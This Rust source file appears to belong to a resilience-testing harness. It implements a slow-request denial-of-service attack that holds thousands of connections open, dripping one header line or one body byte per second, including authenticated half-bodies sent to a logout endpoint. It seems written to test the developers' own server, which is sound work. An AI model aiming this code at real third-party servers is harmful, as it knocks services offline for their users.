//! Thousands of connections with requests that never become whole, and that go on a little once a second.

use std::io;
use std::net::TcpStream;
use std::time::{Duration, Instant};

use rustix::event::epoll;
use rustix::fd::OwnedFd;
use rustix::io::Errno;
use rustix::net::{RecvFlags, recv};

use super::attack::{Attack, LOCAL_ADDRESS, PATIENCE, Tally, Target};
use crate::asker::bearer;
use crate::failure::Failure;
use crate::session::{status_of, watch};
use crate::sockets::{Outgoing, PORTS_PER_ADDRESS, begin_to_connect};

const EVENTS_MAX: usize = 512;
const BUFFER_BYTES: usize = 16 << 10;
/// Each connection sends something once in this time.
const DRIP_INTERVAL: Duration = Duration::from_secs(1);
/// Connections that are opened, or opened again, in one turn at most.
const OPENED_AT_ONCE: usize = 64;
/// Half of a body to log out with: a thousand of them are more than all bodies may hold.
const BODY_BYTES: usize = 36_000;
const SENT_BYTES: usize = 20_000;
/// The users to whom these bodies are charged, by turns: so many that their budgets do not end the attack.
const BODY_USERS: usize = 100;

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Part {
    /// A request's head: a line each second.
    Head,
    /// A request's body: half of it at once, then a byte each second.
    Body,
}

pub struct Halves {
    part: Part,
    /// What the connections send first, in turn.
    first: Vec<Vec<u8>>,
    connections: Vec<Option<Connection>>,
    epoll: Option<OwnedFd>,
    /// The connection that drips next, and when the first has dripped.
    next: usize,
    round: Instant,
    buffer: Vec<u8>,
}

struct Connection {
    socket: TcpStream,
    outgoing: Outgoing,
}

impl Halves {
    pub fn new(connections: usize, part: Part) -> Halves {
        Halves {
            part,
            first: Vec::new(),
            connections: (0..connections).map(|_| None).collect(),
            epoll: None,
            next: 0,
            round: Instant::now(),
            buffer: vec![0; BUFFER_BYTES],
        }
    }

    fn open_some(&mut self, target: &Target, tally: &mut Tally) -> io::Result<()> {
        let Some(epoll) = &self.epoll else { return Ok(()) };
        let empty = self.connections.iter_mut().enumerate().filter(|(_, connection)| connection.is_none());
        for (index, connection) in empty.take(OPENED_AT_ONCE) {
            let number = LOCAL_ADDRESS + (index / PORTS_PER_ADDRESS) as u8;
            let socket = begin_to_connect(target.server, number)?;
            watch(epoll, &socket, index)?;
            let mut outgoing = Outgoing::default();
            outgoing.bytes().extend_from_slice(&self.first[index % self.first.len()]);
            *connection = Some(Connection { socket, outgoing });
            tally.asked += 1;
        }
        Ok(())
    }

    /// Lets the connections drip whose turn has come within this second.
    fn drip(&mut self) {
        let share = self.round.elapsed().as_secs_f64() / DRIP_INTERVAL.as_secs_f64();
        let until = self.connections.len().min((share * self.connections.len() as f64) as usize);
        let drop: &[u8] = if self.part == Part::Head { b"X-More: 1\r\n" } else { b"x" };
        for connection in self.connections[self.next..until].iter_mut().flatten() {
            connection.outgoing.bytes().extend_from_slice(drop);
            // If the connection has ended, the next read says so.
            let _ = connection.outgoing.flush(&connection.socket);
        }
        self.next = until;
        if until == self.connections.len() {
            (self.next, self.round) = (0, Instant::now());
        }
    }

    fn read(&mut self, index: usize, tally: &mut Tally) {
        let Some(connection) = &mut self.connections[index] else { return };
        let _ = connection.outgoing.flush(&connection.socket);
        let kind = match recv(&connection.socket, &mut *self.buffer, RecvFlags::DONTWAIT) {
            Err(Errno::AGAIN | Errno::NOTCONN | Errno::INTR) => return,
            Ok((0, _)) | Err(_) => "cut".to_owned(),
            Ok((got, _)) => status_of(&String::from_utf8_lossy(&self.buffer[..got])).to_string(),
        };
        tally.refuse(kind);
        self.connections[index] = None;
    }
}

fn half_body(token: &str) -> Vec<u8> {
    let head = "POST /v2/session/logout HTTP/1.1\r\nHost: localhost\r\n";
    let body = "x".repeat(SENT_BYTES);
    format!("{head}{}Content-Length: {BODY_BYTES}\r\n\r\n{body}", bearer(token)).into_bytes()
}

impl Attack for Halves {
    fn prepare(&mut self, target: &Target) -> Result<(), Failure> {
        self.first = match self.part {
            Part::Head => vec![b"POST /v2/account HTTP/1.1\r\nHost: a\r\n".to_vec()],
            Part::Body => target.sign_in(BODY_USERS)?.iter().map(|token| half_body(token)).collect(),
        };
        self.epoll = Some(epoll::create(epoll::CreateFlags::CLOEXEC)?);
        Ok(())
    }

    fn turn(&mut self, target: &Target, tally: &mut Tally) -> Result<(), Failure> {
        self.open_some(target, tally)?;
        self.drip();
        let Some(epoll) = &self.epoll else { return Ok(()) };
        for event in crate::sockets::ready(epoll, EVENTS_MAX, PATIENCE)? {
            self.read(event.data.u64() as usize, tally);
        }
        Ok(())
    }
}
